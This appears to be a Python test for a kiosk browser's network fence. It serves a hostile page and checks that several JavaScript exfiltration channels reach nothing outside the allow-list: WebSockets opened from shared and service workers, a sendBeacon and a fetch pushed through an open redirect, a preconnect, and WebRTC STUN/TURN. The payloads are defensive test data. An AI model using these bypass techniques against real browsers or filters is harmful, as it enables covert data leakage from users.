"""A hostile page on an allowed host tries every channel out that slipped past the request
interceptor; a recorder on another loopback address (TCP and UDP) must see nothing. Before the
fence's network layer (kiosk/web/network.py) it saw WebSockets from shared and service workers, a
redirected image and sendBeacon (body included), a preconnect, and STUN/TURN packets."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tests.qt.conftest import demo_settings, to_page
from tests.qt.recorder import RECORDER_HOST, Recorder

HOSTILE_PAGE = "<!doctype html><html><body><main><h1>Hostile</h1></main></body></html>"
SHARED_WORKER = (
    "onconnect = (e) => { const p = e.ports[0]; const ws = new WebSocket('ws://REC/shared');"
    " ws.onopen = () => { ws.send('leak'); p.postMessage('open') };"
    " ws.onerror = () => p.postMessage('error') }"
)
SERVICE_WORKER = (
    "self.addEventListener('message', (e) => { const ws = new WebSocket('ws://REC/sw');"
    " ws.onopen = () => e.source.postMessage('open'); ws.onerror = () => e.source.postMessage('error') });"
    " self.addEventListener('activate', (e) => e.waitUntil(clients.claim()));"
)
VECTORS = {
    "websocket from a shared worker": (
        "new Promise(r => { const w = new SharedWorker('/shared.js'); w.port.onmessage = (e) => r(e.data);"
        " w.onerror = () => r('worker error'); w.port.start(); setTimeout(() => r('timeout'), 4000) })"
    ),
    "websocket from a service worker": (
        "(async () => { try { const reg = await navigator.serviceWorker.register('/sw.js');"
        " await navigator.serviceWorker.ready; const sw = reg.active || reg.waiting || reg.installing;"
        " return await new Promise(r => { navigator.serviceWorker.onmessage = (e) => r(e.data);"
        " sw.postMessage('go'); setTimeout(() => r('timeout'), 4000) }) } catch (x) { return 'refused' } })()"
    ),
    "fetch POST redirected": (
        "fetch('/redirect', {method: 'POST', body: 'FETCHBODY'}).then(r => 'status ' + r.status, e => 'refused')"
    ),
    "sendBeacon redirected": (
        "(() => { navigator.sendBeacon('/redirect?beacon', 'BEACONBODY');"
        " return new Promise(r => setTimeout(() => r('sent'), 1500)) })()"
    ),
    "image redirected": (
        "new Promise(r => { const i = new Image(); i.onload = () => r('load');"
        " i.onerror = () => r('error'); i.src = '/redirect?img' })"
    ),
    "preconnect": (
        "(() => { const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://REC';"
        " document.head.appendChild(l); return new Promise(r => setTimeout(() => r('added'), 1500)) })()"
    ),
    "webrtc stun and turn": (
        "(async () => { const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:REC'},"
        " {urls: 'turn:REC?transport=tcp', username: 'pagechosen', credential: 'x'},"
        " {urls: 'turn:REC?transport=udp', username: 'pagechosen', credential: 'x'}]});"
        " const found = []; pc.onicecandidate = (e) => { if (e.candidate) found.push(e.candidate.type) };"
        " pc.createDataChannel('x'); await pc.setLocalDescription(await pc.createOffer());"
        " await new Promise(r => setTimeout(r, 3000)); pc.close(); return 'candidates ' + found.join(',') })()"
    ),
}


def hostile_server(recorder: str) -> ThreadingHTTPServer:
    """The hostile page, on an allowed host (loopback), with its workers and an open redirect."""

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            if length:
                self.rfile.read(length)
            path = self.path.split("?")[0]
            if path == "/redirect":
                self.send_response(307)
                self.send_header("Location", f"http://{recorder}/after-redirect")
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            body, kind = {
                "/hostile.html": (HOSTILE_PAGE, "text/html"),
                "/shared.js": (SHARED_WORKER.replace("REC", recorder), "text/javascript"),
                "/sw.js": (SERVICE_WORKER.replace("REC", recorder), "text/javascript"),
            }.get(path, ("not here", "text/plain"))
            data = body.encode()
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        do_POST = do_GET

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, args=(0.1,), daemon=True).start()
    return server


def test_a_hostile_page_reaches_nothing_outside_the_allow_list(
    make_kiosk: Any, recorder: Recorder
) -> None:
    rec = f"{RECORDER_HOST}:{recorder.port}"
    server = hostile_server(rec)
    try:
        port = server.server_address[1]
        k, d = make_kiosk(demo_settings(web={"extra_hosts": [f"http://127.0.0.1:{port}"]}))
        to_page(k, d)
        d.js(f"(() => {{ location = 'http://127.0.0.1:{port}/hostile.html'; return true }})()")
        d.wait_until(lambda: d.js("location.pathname") == "/hostile.html", 10, "the hostile page")
        answers, leaks = {}, {}
        for name, script in VECTORS.items():
            before = len(recorder.seen)
            answers[name] = d.js(script.replace("REC", rec), timeout=10)
            d.pump(0.5)
            if recorder.seen[before:]:
                leaks[name] = recorder.seen[before:]
        assert leaks == {}, answers
        # Their scripts never load (the interceptor), so the workers never even try.
        assert answers["websocket from a shared worker"] == "worker error", answers
        assert answers["websocket from a service worker"] == "refused", answers
        assert answers["webrtc stun and turn"] == "candidates "  # not even the kiosk's own address
        assert k.session.screen == "handoff"  # refused, not broken
    finally:
        server.shutdown()
        server.server_close()
